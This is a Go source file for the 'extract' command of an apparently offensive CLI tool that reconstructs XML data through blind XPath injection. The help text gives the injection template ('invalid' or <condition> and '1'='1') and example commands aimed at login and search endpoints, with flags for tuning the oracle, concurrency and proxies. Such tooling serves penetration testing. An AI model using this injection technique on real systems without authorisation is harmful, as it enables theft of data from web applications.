package cli

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"syscall"

	"github.com/ppiankov/xfil/internal/model"
	"github.com/ppiankov/xfil/internal/pipeline"
	"github.com/ppiankov/xfil/internal/transport"
	"github.com/spf13/cobra"
	"go.uber.org/zap"
)

var (
	postData string
	headers  string
	outPath  string
)

// extractFlagKeys maps extract flags to configuration keys
var extractFlagKeys = map[string]string{
	"url":             "target.url",
	"method":          "target.method",
	"param":           "target.param",
	"content-type":    "target.content_type",
	"success-text":    "oracle.success_text",
	"failure-text":    "oracle.failure_text",
	"success-code":    "oracle.success_code",
	"failure-code":    "oracle.failure_code",
	"visible-text":    "oracle.match_visible_text",
	"max-queries":     "oracle.max_queries",
	"root":            "extract.root",
	"max-depth":       "extract.max_depth",
	"timeout":         "extract.timeout",
	"bound":           "search.bound",
	"alphabet":        "search.alphabet",
	"strategy":        "search.strategy",
	"sibling-workers": "concurrency.sibling_workers",
	"probe-workers":   "concurrency.probe_workers",
	"rps":             "rate_limiting.requests_per_second",
	"burst":           "rate_limiting.burst_size",
	"delay":           "rate_limiting.delay",
	"request-timeout": "http.timeout",
	"retries":         "http.max_retries",
	"ua":              "http.user_agent",
	"insecure":        "http.insecure_tls",
	"http-proxy":      "http.http_proxy",
	"https-proxy":     "http.https_proxy",
	"cache-dir":       "cache.dir",
	"format":          "output.format",
}

// extractCmd represents the extract command
var extractCmd = &cobra.Command{
	Use:   "extract",
	Short: "Reconstruct the XML document behind a blind XPath injection",
	Long: `Extract walks the document behind a vulnerable parameter one boolean
question at a time and writes what it recovered.

The parameter is injected as:
  invalid' or <condition> and '1'='1

A response is read as true or false from the configured status codes and
marker texts. Anything else counts as false.

Example:
  xfil extract --url http://host/login --param user --success-text "Welcome"
  xfil extract --url http://host/login --method POST --param user \
      --post-data "pass=x" --failure-text "Invalid" --format yaml -o dump.yaml
  xfil extract --url http://host/search --param q --root "/*[1]/*[2]" \
      --strategy binary --probe-workers 8 --rps 20`,
	Args: cobra.NoArgs,
	PreRunE: func(cmd *cobra.Command, args []string) error {
		return bindFlags(cmd, extractFlagKeys)
	},
	RunE: runExtract,
}

func init() {
	rootCmd.AddCommand(extractCmd)
	addTargetFlags(extractCmd)
	addEngineFlags(extractCmd)

	extractCmd.Flags().StringVar(&postData, "post-data", "", `extra POST fields, JSON object or "k=v&k2=v2"`)
	extractCmd.Flags().StringVar(&headers, "headers", "", `extra headers, JSON object or "Key: Value; Key2: Value2"`)
	extractCmd.Flags().Duration("timeout", 0, "overall extraction timeout (0 = none)")
	extractCmd.Flags().Bool("no-cache", false, "disable the verdict cache")
	extractCmd.Flags().String("cache-dir", model.DefaultConfig().Cache.Dir, "verdict cache directory")
	extractCmd.Flags().StringP("format", "f", "json", "output format (json, yaml, xml)")
	extractCmd.Flags().StringVarP(&outPath, "out", "o", "-", "output file (- for stdout)")
}

// addTargetFlags registers the flags describing the endpoint and its oracle
func addTargetFlags(cmd *cobra.Command) {
	defaults := model.DefaultConfig()
	f := cmd.Flags()

	f.String("url", "", "vulnerable endpoint URL")
	f.String("method", defaults.Target.Method, "HTTP method (GET, POST)")
	f.String("param", "", "vulnerable parameter name")
	f.String("content-type", defaults.Target.ContentType, "POST body encoding")
	f.String("success-text", "", "marker present in true responses")
	f.String("failure-text", "", "marker present in false responses")
	f.Int("success-code", 0, "status code of true responses")
	f.Int("failure-code", 0, "status code of false responses")
	f.Bool("visible-text", false, "match markers against visible page text only")
	f.Int64("max-queries", 0, "stop after this many requests (0 = unlimited)")

	f.Float64("rps", 0, "requests per second (0 = unlimited)")
	f.Int("burst", defaults.RateLimiting.BurstSize, "rate limiter burst size")
	f.Duration("delay", 0, "fixed delay before every request")
	f.Duration("request-timeout", defaults.HTTP.Timeout, "per request timeout")
	f.Int("retries", defaults.HTTP.MaxRetries, "retries for transient failures")
	f.String("ua", defaults.HTTP.UserAgent, "HTTP User-Agent")
	f.Bool("insecure", false, "skip TLS certificate verification")
	f.String("http-proxy", "", "HTTP proxy URL (overrides HTTP_PROXY env var)")
	f.String("https-proxy", "", "HTTPS proxy URL (overrides HTTPS_PROXY env var)")
}

// addEngineFlags registers the flags controlling search and traversal
func addEngineFlags(cmd *cobra.Command) {
	defaults := model.DefaultConfig()
	f := cmd.Flags()

	f.String("root", defaults.Extract.Root, "XPath of the node set to extract")
	f.Int("max-depth", defaults.Extract.MaxDepth, "maximum tree depth (0 = unlimited)")
	f.Int("bound", defaults.Search.Bound, "upper bound for counts and lengths")
	f.String("alphabet", defaults.Search.Alphabet, "candidate characters in the order they are tried")
	f.String("strategy", defaults.Search.Strategy, "count search strategy (linear, binary)")
	f.Int("sibling-workers", defaults.Concurrency.SiblingWorkers, "nodes measured at once across the whole tree")
	f.Int("probe-workers", defaults.Concurrency.ProbeWorkers, "character tests in flight per node measurement")
}

func runExtract(cmd *cobra.Command, args []string) error {
	cfg, err := loadConfig()
	if err != nil {
		return err
	}
	if noCache, _ := cmd.Flags().GetBool("no-cache"); noCache {
		cfg.Cache.Enabled = false
	}
	applyExtras(cfg)

	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("invalid configuration: %w", err)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	printBanner(cfg)

	if cfg.Output.Verbose {
		fmt.Fprintf(os.Stderr, "Target:   %s (param %s, %s)\n", cfg.Target.URL, cfg.Target.Param, cfg.Target.Method)
		fmt.Fprintf(os.Stderr, "Root:     %s\n", cfg.Extract.Root)
		fmt.Fprintf(os.Stderr, "Strategy: %s, bound %d\n", cfg.Search.Strategy, cfg.Search.Bound)
		fmt.Fprintf(os.Stderr, "Cache:    %v\n", cfg.Cache.Enabled)
		fmt.Fprintln(os.Stderr)
	}

	report, err := pipeline.RunTarget(ctx, cfg, pipeline.WithLogger(logger))
	if err != nil {
		return fmt.Errorf("extract failed: %w", err)
	}

	renderer := pipeline.NewRenderer()
	if err := renderer.RenderFile(report, cfg.Output.Format, outPath); err != nil {
		return fmt.Errorf("render failed: %w", err)
	}

	if !cfg.Output.Quiet {
		renderer.RenderSummary(os.Stderr, report)
	}
	return nil
}

// applyExtras parses --post-data and --headers. Malformed input falls back
// to whatever could be parsed and is logged, never fatal.
func applyExtras(cfg *model.Config) {
	if postData != "" {
		fields, err := transport.ParsePostData(postData)
		if err != nil {
			logger.Warn("ignoring malformed post data", zap.Error(err))
		}
		cfg.Target.PostData = fields
	}
	if headers != "" {
		parsed, err := transport.ParseHeaders(headers)
		if err != nil {
			logger.Warn("ignoring malformed headers", zap.Error(err))
		}
		cfg.Target.Headers = parsed
	}
}
